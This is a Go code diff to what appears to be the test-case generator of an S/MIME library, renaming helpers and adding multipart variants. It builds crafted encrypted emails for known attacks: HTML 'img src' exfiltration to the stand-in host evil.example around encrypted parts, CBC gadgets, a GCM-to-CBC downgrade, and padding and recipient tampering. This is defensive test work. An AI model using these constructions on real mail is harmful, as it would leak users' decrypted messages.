@@ -50,8 +50,8 @@ func authSealedMail(der []byte) string {
 	return fileFields + strings.Replace(fileOpaque, "signed-data", "authEnveloped-data", 1) + base64Lines(der)
 }
 
-// innerSigned is an entity that Alice signed, for inside an encryption.
-func (m *mimeMaker) innerSigned() string {
+// sealedPart is an entity that Alice signed, for inside an encryption.
+func (m *mimeMaker) sealedPart() string {
 	return fileOpaque + base64Lines(forged(filePart, m.people.alice).DER())
 }
 
@@ -91,25 +91,25 @@ func (p *openIdentities) authEnvelope(content string, change func(*forge.Envelop
 	return e.DER()
 }
 
-// nobodySigned adds a message that nobody signed and that is not refused for another reason.
-func (m *mimeMaker) nobodySigned(name, note, twin, message string) *openFile {
+// bare adds a message that nobody signed and that is not refused for another reason.
+func (m *mimeMaker) bare(name, note, twin, message string) *openFile {
 	return m.add(&openFile{Name: name, Note: note, Twin: twin, Verdict: smime.Unsigned, message: message})
 }
 
 // isolation: what was encrypted never gets together with what was not.
 func (m *mimeMaker) isolation() {
-	sealed := sealedMail(m.people.envelope(m.innerSigned(), nil))
+	sealed := sealedMail(m.people.envelope(m.sealedPart(), nil))
 	m.authentic("c01-twin-sealed", "signed and encrypted with AES-CBC", sealed, filePart)
 	part := strings.TrimPrefix(sealed, fileFields)
-	for name, kind := range map[string]string{"digest": "digest", "signed-look": "signed; protocol=\"application/pgp-signature\""} {
-		m.nobodySigned("c01-"+name, "a part on each side draws the plaintext out", "c01-twin-sealed",
+	for name, kind := range map[string]string{"mixed": "mixed", "alternative": "alternative", "related": "related; type=\"text/html\"", "signed-look": "signed; protocol=\"application/pgp-signature\""} {
+		m.bare("c01-"+name, "a part on each side draws the plaintext out", "c01-twin-sealed",
 			fileFields+"Content-Type: multipart/"+kind+"; boundary=outer\r\n\r\n"+
 				"--outer\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n"+
 				"--outer\r\n"+part+"--outer\r\nContent-Type: text/html\r\n\r\n\">\r\n--outer--\r\n")
 	}
-	m.nobodySigned("c01-attached", "the encrypted message is attached to another", "c01-twin-sealed",
+	m.bare("c01-attached", "the encrypted message is attached to another", "c01-twin-sealed",
 		fileFields+"Content-Type: message/rfc822\r\n\r\n"+sealed)
-	m.nobodySigned("c01-html-around", "an open quote inside the encryption is not closed outside of it", "c01-twin-sealed",
+	m.bare("c01-html-around", "an open quote inside the encryption is not closed outside of it", "c01-twin-sealed",
 		sealedMail(m.people.envelope("Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n", nil)))
 }
 
@@ -128,9 +128,9 @@ func (m *mimeMaker) gadgets() {
 	if !strings.HasPrefix(filePart, known) {
 		m.t.Fatal("the first block is another")
 	}
-	m.nobodySigned("c02-gadget", "the first block is the attacker's, the rest is left", twin, sealedMail(m.people.envelope(filePart, gadget(filePart))))
-	signed := m.innerSigned()
-	m.nobodySigned("c02-gadget-over-signature", "the first block, which said that the rest is signed, is the attacker's", twin, sealedMail(m.people.envelope(signed, gadget(signed))))
+	m.bare("c02-gadget", "the first block is the attacker's, the rest is left", twin, sealedMail(m.people.envelope(filePart, gadget(filePart))))
+	signed := m.sealedPart()
+	m.bare("c02-gadget-over-signature", "the first block, which said that the rest is signed, is the attacker's", twin, sealedMail(m.people.envelope(signed, gadget(signed))))
 	m.refused("c02-gadget-inside", "a block within the signature inside is the attacker's", twin, "decrypt.failed", sealedMail(m.people.envelope(signed, func(e *forge.Enveloped) {
 		e.Text[400] ^= 1
 	})))
@@ -147,7 +147,7 @@ func (m *mimeMaker) gadgets() {
 // downgrades: what was authenticated encryption is sent as one that is not.
 func (m *mimeMaker) downgrades() {
 	key, nonce := []byte(fileKey), []byte(fileNonce)
-	signed := m.innerSigned()
+	signed := m.sealedPart()
 	const twin = "c03-twin-gcm"
 	m.authentic(twin, "signed and encrypted with AES-GCM", authSealedMail(m.people.authEnvelope(signed, nil)), filePart)
 	text, tag := forge.GCM(key, nonce, []byte(signed), nil)
@@ -157,7 +157,7 @@ func (m *mimeMaker) downgrades() {
 	// The counter blocks and what they encrypt to are known, so that a block of the
 	// attacker's deciphers to a counter block, and the initial vector makes of it what
 	// he likes.
-	m.nobodySigned("c03-chosen", "one block of the key stream of AES-GCM as a message in AES-CBC", twin, sealedMail(m.people.envelope("", func(e *forge.Enveloped) {
+	m.bare("c03-chosen", "one block of the key stream of AES-GCM as a message in AES-CBC", twin, sealedMail(m.people.envelope("", func(e *forge.Enveloped) {
 		counter := append(bytes.Clone(nonce), 0, 0, 0, 2)
 		e.Text = make([]byte, 16)
 		subtle.XORBytes(e.Text, text[:16], []byte(signed[:16]))
@@ -192,7 +192,7 @@ func (m *mimeMaker) downgrades() {
 // tags: all of the tag, and of the length that the message says.
 func (m *mimeMaker) tags() {
 	key, nonce := []byte(fileKey), []byte(fileNonce)
-	signed := m.innerSigned()
+	signed := m.sealedPart()
 	const twin = "c03-twin-gcm"
 	by := func(change func(*forge.Enveloped)) string {
 		return authSealedMail(m.people.authEnvelope(signed, change))
@@ -232,7 +232,7 @@ func (m *mimeMaker) tags() {
 func (m *mimeMaker) keyTransport() {
 	bob, key := m.people.bob, []byte(fileKey)
 	pub := bob.Certificate().PublicKey.(*rsa.PublicKey)
-	signed := m.innerSigned()
+	signed := m.sealedPart()
 	by := func(algorithm, encryptedKey []byte) string {
 		return sealedMail(m.people.envelope(signed, func(e *forge.Enveloped) {
 			e.Recipients = [][]byte{forge.KeyTransport(bob.Certificate(), algorithm, encryptedKey)}
@@ -313,7 +313,7 @@ func (m *mimeMaker) recipients() {
 	good, bad := transport(bob, []byte(fileKey)), transport(bob, make([]byte, 32))
 	theirs := transport(eve, make([]byte, 32))
 	unknown := forge.Tagged(9, forge.Null())
-	signed := m.innerSigned()
+	signed := m.sealedPart()
 	by := func(recipients ...[]byte) string {
 		return sealedMail(m.people.envelope(signed, func(e *forge.Enveloped) { e.Recipients = recipients }))
 	}
@@ -330,7 +330,7 @@ func (m *mimeMaker) recipients() {
 
 // padding: nothing tells how the padding of AES-CBC is wrong.
 func (m *mimeMaker) padding() {
-	signed := m.innerSigned()
+	signed := m.sealedPart()
 	key, iv := []byte(fileKey), []byte(fileIV)
 	with := func(plain []byte) string {
 		return sealedMail(m.people.envelope("", func(e *forge.Enveloped) { e.Text = forge.CBC(forge.AES(key), iv, plain) }))
@@ -369,7 +369,7 @@ func (m *mimeMaker) padding() {
 
 // oldCiphers are not read unless somebody asks for it.
 func (m *mimeMaker) oldCiphers() {
-	signed := m.innerSigned()
+	signed := m.sealedPart()
 	for _, c := range oldCiphers(m.t) {
 		m.refused("b06-"+c.name, c.note, "c01-twin-sealed", "decrypt.weak_cipher", sealedMail(c.envelope(m.people, signed)))
 	}
